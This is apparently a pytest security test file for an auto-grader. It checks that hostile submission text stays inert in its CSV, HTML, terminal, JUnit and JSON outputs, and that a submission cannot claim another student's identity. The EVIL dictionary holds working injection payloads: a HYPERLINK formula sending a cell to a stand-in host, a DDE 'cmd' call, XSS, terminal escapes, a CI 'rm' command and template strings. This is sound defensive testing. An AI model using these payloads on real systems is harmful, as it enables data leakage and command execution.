"""What a learner writes gets into terminals, browsers, spreadsheets and gradebooks, and does nothing there."""

from __future__ import annotations

import csv as spreadsheet
import html.parser
import io
import json as plain_json
import xml.dom.minidom
from pathlib import Path

import pytest
from msgspec import structs

from dlgrader.grading.exercise import load_grader
from dlgrader.grading.grade import Session, submission_of
from dlgrader.hooks.registry import make_registry
from dlgrader.model.report import Report
from dlgrader.report import csv, text
from dlgrader.report.gradebooks.gradescope import results_json
from dlgrader.report.junit import junit
from dlgrader.report.results import ResultFolder
from dlgrader.report.web.results import result_page
from dlgrader.sandbox.warm import Warm
from dlgrader.submission.find import find_submissions

EVIL = {
    "formula": "=HYPERLINK('http://127.0.0.1/?'&A1;'marks')",
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "quotes": "\"'--><svg/onload=alert(3)>`]]>",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b]8;;http://x\x07here\x1b]8;;\x07\x9b31m",
    "lines": "\r\n\u2028score: 10/10\r\n::error::\n##[command]rm",
    "template": "{{ 7*7 }} {% raw %} {case:>99999999} ${HOME} %s",
}


class Tags(html.parser.HTMLParser):
    """Which elements a page has, and which attributes that could run something."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag, *(name for name, _ in attrs if name.startswith("on"))]


def graded(warm: Warm, evil: str) -> Report:
    grader = load_grader(make_registry()["ch04/adam"])
    source = f"""
EVIL = {evil!r}
class Adam:
    def __init__(self, params, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8): pass
    def step(self, grads):
        print(EVIL)
        raise type(EVIL.replace(chr(0), ''), (ValueError,), {{}})(EVIL)
raise ValueError(EVIL)
"""
    submission = structs.replace(submission_of(source, "adam.py"), name=evil, path=evil)
    return Session(warm).grade(grader, submission, student=evil, only=lambda check: check.name == "contract")


@pytest.mark.attack(
    "availability",
    "injected_feedback",
    tries="Formulas, scripts, terminal sequences, line ends and templates as names, exceptions, messages and prints.",
    held_by="every output escapes for its own reader; nothing of a submission's is a template, markup or a path",
    exercise="ch04/adam",
)
@pytest.mark.parametrize("evil", EVIL.values(), ids=EVIL)
def test_words_stay_words(evil: str, warm: Warm, tmp_path: Path) -> None:
    report = graded(warm, evil)
    assert not report.faults
    for plain in (text.text(report), csv.to_csv([report]), result_page([(report, ())])):
        assert not {"\x1b", "\x07", "\x9b", "\r"} & set(plain) and len(plain) < 100_000
    (_, row) = spreadsheet.reader(io.StringIO(csv.to_csv([report])))
    assert not [cell for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
    clean = Tags(result_page([(graded(warm, "words"), ())]))
    assert set(Tags(result_page([(report, ())])).found) == set(clean.found)
    xml.dom.minidom.parseString(junit([report]))
    assert plain_json.loads(results_json([report]))["score"] == report.points
    folder = ResultFolder(tmp_path / "out", ("json", "text", "csv", "junit"))
    folder.save(report)
    folder.finish([report])
    assert {path.resolve().parents[1] for path in tmp_path.rglob("*.json")} == {tmp_path / "out"}


@pytest.mark.attack(
    "availability",
    "forged_identity",
    tries="Names another student, an earlier time and full marks in the header, and in files beside the code.",
    held_by="who and when come from where the work was found; what lies in it is code or nothing",
)
def test_nobody_else_is_named_by_a_submission(tmp_path: Path) -> None:
    mine = tmp_path / "mallory"
    mine.mkdir()
    (mine / "adam.py").write_text("# dlgrader: ch04/adam\n# student: alice\n__student__ = 'alice'\n")
    (mine / "timestamp.txt").write_text("2020-01-01 00:00:00 UTC")
    (mine / "submission_metadata.yml").write_text("':submitters':\n- ':name': alice\n")
    (mine / "ch04-adam.json").write_text('{"format": "dlgrader.report/1", "points": 10, "student": "alice"}')
    (tmp_path / "alice").mkdir()
    (tmp_path / "alice" / "adam.py").write_text("x = 1\n")
    found = {work.student: [file.path for file in work.files] for work in find_submissions(str(tmp_path)).students}
    assert {student: len(files) for student, files in found.items()} == {"alice": 1, "mallory": 1}
